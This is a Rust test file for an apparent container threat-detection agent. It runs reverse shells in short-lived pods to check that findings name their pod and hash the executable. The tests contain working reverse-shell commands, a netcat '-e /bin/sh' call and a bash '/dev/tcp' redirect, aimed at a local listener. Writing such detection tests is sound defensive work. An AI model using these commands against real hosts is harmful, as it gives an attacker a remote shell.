//! Privileged: pods whose very first process is the attack and exits at once, many times, while
//! `shrike run` lags behind so that each process, container and cgroup is gone when it reads the
//! events. Every finding must name its pod, and the executable of a process that is gone is
//! still hashed. (Its own test binary: test binaries run one after another, and an agent sees
//! every pod on the node, also another test's; the tests here use distinct pod names and look
//! only at findings about their own containers.)

use shrike_tests::{agent, common, containerd};
use std::{
    collections::BTreeSet,
    path::Path,
    time::{Duration, Instant},
};

use agent::{listen, start_agent};
use common::privileged;
use containerd::{Containerd, PodSpec, RunningPod};
use serde_json::Value;
use sha2::{Digest, Sha256};

const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
const RCE: &str = "Execution: Possible Remote Command Execution Detected";
const REVERSE_SHELL: &str = "Reverse Shell";

fn categories(findings: &[&Value]) -> BTreeSet<String> {
    findings.iter().filter_map(|f| f["finding"]["category"].as_str()).map(str::to_string).collect()
}

/// Wait (until `deadline`) for a pod's container cgroup to leave the tree; true when it did.
async fn cgroup_gone(pod: &RunningPod, deadline: Instant) -> bool {
    let cgroup = Path::new("/sys/fs/cgroup").join(pod.spec.container_cgroup(&pod.container_id).trim_start_matches('/'));
    while cgroup.exists() && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    !cgroup.exists()
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// Pods whose very first process is the attack and exits at once, taking its container and
/// cgroup with it before the agent can look in `/proc` or the cgroup tree: the container and pod
/// still come from the kernel's record of the cgroup's creation. Every finding names its pod.
#[tokio::test(flavor = "current_thread")]
async fn first_processes_of_pods_that_exit_at_once_name_their_pod() {
    if !privileged("first_processes_of_pods_that_exit_at_once_name_their_pod") {
        return;
    }
    const PODS: usize = 12;
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("fresh");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "fresh", &ctrd.socket, false);
    // The agent falls behind, as under an exec storm (stopped, by its pid): by the time it reads
    // the events, every attacking process, its container and its cgroup are gone.
    // SAFETY: signalling the agent we started, by its pid.
    unsafe { libc::kill(agent.pid as i32, libc::SIGSTOP) };
    let mut pods = Vec::new();
    for i in 0..PODS {
        let l = listen("id; exit\n");
        let name = format!("fresh-{i}");
        let port = l.port.to_string();
        let pod = ctrd.run_pod(&PodSpec::new(&name, &["/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", &port])).await;
        let got = l.thread.join().unwrap();
        assert!(got.contains("uid="), "{name}: the attack did not really work; listener got {got:?}");
        pods.push(pod);
    }
    let deadline = Instant::now() + Duration::from_secs(20);
    for pod in &pods {
        assert!(cgroup_gone(pod, deadline).await, "{}: the container's cgroup is still there", pod.spec.name);
    }
    // SAFETY: as above.
    unsafe { libc::kill(agent.pid as i32, libc::SIGCONT) };
    // Each pod raises netcat RCE, a reverse shell and remote command execution: wait for all of
    // them with their pod (stopping the agent earlier would flush a finding still waiting for
    // its pod's metadata, marked incomplete).
    let each_pod_complete = |findings: &[Value]| {
        (0..PODS).all(|i| {
            let name = format!("fresh-{i}");
            let own: Vec<&Value> = findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == name.as_str()).collect();
            categories(&own) == set(&[NETCAT, REVERSE_SHELL, RCE])
        })
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    while !each_pod_complete(&agent.findings()) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let (findings, log) = agent.stop();
    // The agent sees every container on the node, also those of the other test here, run by its
    // own containerd, which this agent cannot ask for their pods: only findings about this test's
    // containers (or about no container at all) count.
    let ours: BTreeSet<&str> = pods.iter().map(|p| p.container_id.as_str()).collect();
    let about_ours = |f: &&Value| match f["finding"]["containers"][0]["name"].as_str() {
        Some(id) => ours.contains(id),
        None => true,
    };
    let unattributed: Vec<&Value> =
        findings.iter().filter(about_ours).filter(|f| f["finding"]["sourceProperties"].get("Pod_Name").is_none()).collect();
    assert!(unattributed.is_empty(), "findings without their pod: {unattributed:#?}\n\nlog:\n{log}");
    let mut failures = Vec::new();
    for i in 0..PODS {
        let name = format!("fresh-{i}");
        let own: Vec<&Value> = findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == name.as_str()).collect();
        let got = categories(&own);
        if got != set(&[NETCAT, REVERSE_SHELL, RCE]) {
            failures.push(format!("{name}: {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{}\n\nlog:\n{log}", failures.join("\n"));
    for pod in &pods {
        ctrd.remove_pod(pod).await;
    }
    ctrd.stop();
}

/// A reverse shell whose executable comes from a volume (the host's `/usr`, bind-mounted), run
/// by a container that is gone, mount namespace and all, when the agent reads its events: the
/// finding still carries the executable's SHA-256, read through the container's root and mount
/// tree as the agent pinned them while the container ran. (Without the mount tree pinned, the
/// kernel takes the volume off the dead namespace and the agent finds an empty `/usr`.)
#[tokio::test(flavor = "current_thread")]
async fn executable_on_a_volume_of_a_container_that_is_gone_is_hashed() {
    if !privileged("executable_on_a_volume_of_a_container_that_is_gone_is_hashed") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("gone");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "gone", &ctrd.socket, false);
    let l = listen("id; exit\n");
    // The container's first process waits, so the agent sees the container while it runs;
    // then the agent falls behind (stopped, by its pid) before the shell starts.
    let script = format!("sleep 3; exec bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", l.port);
    let pod = ctrd.run_pod(&PodSpec::new("gone-volume", &["/bin/sh", "-c", &script])).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    // SAFETY: signalling the agent we started, by its pid.
    unsafe { libc::kill(agent.pid as i32, libc::SIGSTOP) };
    let got = l.thread.join().unwrap();
    let gone = cgroup_gone(&pod, Instant::now() + Duration::from_secs(20)).await;
    // SAFETY: as above.
    unsafe { libc::kill(agent.pid as i32, libc::SIGCONT) };
    assert!(got.contains("uid="), "the shell did not really run; listener got {got:?}");
    assert!(gone, "the container's cgroup is still there");
    let deadline = Instant::now() + Duration::from_secs(20);
    let of_pod = |f: &Value| f["finding"]["sourceProperties"]["Pod_Name"] == "gone-volume" && f["finding"]["category"] == REVERSE_SHELL;
    while !agent.findings().iter().any(of_pod) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let (findings, log) = agent.stop();
    let rs = findings.iter().find(|f| of_pod(f)).unwrap_or_else(|| panic!("no Reverse Shell from gone-volume\n\nlog:\n{log}"));
    let binary = &rs["finding"]["processes"][0]["binary"];
    assert_eq!(binary["path"], "/usr/bin/bash", "{rs}");
    let want: String = Sha256::digest(std::fs::read("/usr/bin/bash").unwrap()).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(binary["sha256"].as_str(), Some(want.as_str()), "the gone shell's executable, read from the volume: {rs}\n\nlog:\n{log}");
    ctrd.remove_pod(&pod).await;
    ctrd.stop();
}
